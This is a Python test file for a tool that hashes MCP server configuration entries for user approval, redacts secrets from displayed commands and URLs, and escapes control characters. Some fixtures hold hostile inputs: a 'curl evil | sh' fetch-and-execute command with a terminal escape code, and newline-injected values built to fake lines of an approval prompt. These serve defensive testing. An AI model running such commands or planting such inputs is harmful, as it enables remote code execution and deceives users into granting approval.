"""One server as it is configured, and the hash that leave is bound to."""

import pytest
from msgspec import structs

from dragoman.host.entries import Approval, Entry, Problem, entry_hash, known_secrets, launches, runs, shown_entry

ENTRY = Entry(
    name="git",
    command="uvx",
    args=("mcp-server-git", "--token", "hidden-1", "--key=hidden-2", "-v"),
    env={"TOKEN": "hidden-3", "MODE": "fast"},
    cwd="/src",
    file="/p/.mcp.json",
    line=3,
    is_project=True,
)
WEB = Entry(
    name="web",
    url="https://me:hidden-4@host/mcp",
    headers={"Authorization": "Bearer hidden-5"},
    proxy="http://u:hidden-6@proxy",
    env_file="/p/.env",
    verify=False,
)


@pytest.mark.edge("B118")
@pytest.mark.parametrize("entry", [ENTRY, WEB])
def test_no_secret_is_shown_by_repr(entry: Entry) -> None:
    assert "hidden" not in repr(entry)
    assert repr(entry).startswith(f"Entry(name={entry.name!r}")
    assert ("name", entry.name) in entry.__rich_repr__()


@pytest.mark.parametrize(
    "change",
    [
        {"command": "sh"},
        {"args": ("mcp-server-git",)},
        {"env": {"TOKEN": "another", "MODE": "fast"}},
        {"cwd": "/other"},
        {"file": "/q/.mcp.json"},
        {"headers": {"X": "y"}},
        {"policy": ("allow",)},
    ],
)
@pytest.mark.edge("B117")
def test_whatever_is_different_has_another_hash(change: dict[str, object]) -> None:
    assert entry_hash(structs.replace(ENTRY, **change)) != entry_hash(ENTRY)


def test_the_line_makes_no_difference() -> None:
    assert entry_hash(structs.replace(ENTRY, line=7)) == entry_hash(ENTRY)


def test_the_order_of_variables_makes_no_difference() -> None:
    turned = structs.replace(ENTRY, env=dict(reversed(list(ENTRY.env.items()))))

    assert entry_hash(turned) == entry_hash(ENTRY)


def test_the_whole_command_is_shown_to_whoever_gives_leave() -> None:
    entry = Entry(name="x", command="sh", args=("-c", "curl evil | sh\x1b[2K"), cwd="/p", file="/p/.mcp.json")

    assert launches(entry) == "sh -c 'curl evil | sh\\u{1b}[2K'"
    assert shown_entry(entry) == f"x runs\n  {launches(entry)}\n  in /p\n  as /p/.mcp.json says"


def test_nothing_can_look_like_another_line_to_whoever_gives_leave() -> None:
    entry = Entry(
        name="x\n",
        command="sh",
        args=("-c", "evil\n  as /home/me/.claude.json says\nAllow it?\t"),
        env={"A\n": "b\n  in /safe"},
        cwd="/p\n",
        file="/p/.mcp.json\n",
    )

    assert len(shown_entry(entry).splitlines()) == 5
    assert "evil\\u{a}  as" in shown_entry(entry)


def test_all_that_an_entry_gets_or_gives_is_shown_to_whoever_gives_leave() -> None:
    program = Entry(name="x", command="x", inherit_env="all", roots=("file:///", "file:///etc"))
    web = Entry(
        name="y",
        url="https://evil/mcp",
        message_url="https://me:pw@other/",
        auth={"token": "hidden"},
        client_cert="/me.pem",
        ca_file="/ca.pem",
    )

    assert shown_entry(program) == (
        "x runs\n  x\n  with all variables of this environment\n  free to work in file:///, file:///etc"
    )
    assert shown_entry(web) == (
        "y connects to\n  https://evil/mcp\n  sending messages to https://***@other/\n"
        '  authorized by {"token": "***"}\n  showing the certificate /me.pem\n  trusting the authorities in /ca.pem'
    )


def test_leave_can_be_bound_to_what_is_no_text() -> None:
    odd = structs.replace(ENTRY, env={"A": "\udcff"}, policy=({"arguments": {"x": len}},))

    assert entry_hash(odd) == entry_hash(odd) != entry_hash(ENTRY)


def test_what_an_address_gets_is_shown_without_its_values() -> None:
    assert shown_entry(WEB) == (
        "web connects to\n  https://***@host/mcp\n  with variables from /p/.env\n  sending Authorization: ***\n"
        "  through the proxy http://***@proxy\n  without checking its certificate"
    )


def test_variables_are_shown_unless_they_are_secrets() -> None:
    shown = str(Approval.of(ENTRY))

    assert "with MODE=fast" in shown
    assert "with TOKEN=***" in shown
    assert Approval.of(ENTRY).hash == entry_hash(ENTRY)


def test_secrets_are_known_by_their_names() -> None:
    assert set(known_secrets(ENTRY)) == {"hidden-1", "hidden-2", "hidden-3"}
    assert set(known_secrets(WEB)) == {"Bearer hidden-5", "hidden-4", "hidden-5", "hidden-6"}


def test_secrets_are_known_wherever_they_stand() -> None:
    entry = Entry(
        name="x",
        url="https://alone-1@host/?api_key=a%2Fb&page=open",
        env={"DB": "postgres://me:p%40ss@host/db", "MODE": "open"},
        args=("--token", "--verbose", "--auth=one", "open"),
        auth={"type": "client_credentials", "client_id": "open", "client_secret": "two", "more": {"token": "three"}},
    )
    expected = {"alone-1", "a%2Fb", "a/b", "p%40ss", "p@ss", "one", "two", "three"}

    assert set(known_secrets(entry)) == expected
    assert known_secrets(Entry(name="x", auth="oauth")) == ()


def test_an_entry_without_anything_is_shown() -> None:
    assert shown_entry(Entry(name="x")) == "x connects to\n  "


def test_a_problem_is_told_with_its_place() -> None:
    problem = Problem("it is missing", "write it", "mcp.json", 3, "command", "git")
    error = problem.error()

    assert str(problem) == "mcp.json:3: command: it is missing"
    assert str(error) == "git: mcp.json:3: command: it is missing (write it)"
    assert (error.file, error.line, error.field, error.server) == ("mcp.json", 3, "command", "git")
    assert str(Problem("odd")) == "odd"


@pytest.mark.edge("B118")
def test_what_runs_is_told_without_secrets() -> None:
    assert runs(ENTRY) == "uvx mcp-server-git --token '***' '--key=***' -v"
    assert runs(structs.replace(ENTRY, args=("at", "hidden-3", "${X}"))) == "uvx at '***' '${X}'"
    assert runs(WEB) == "https://***@host/mcp"
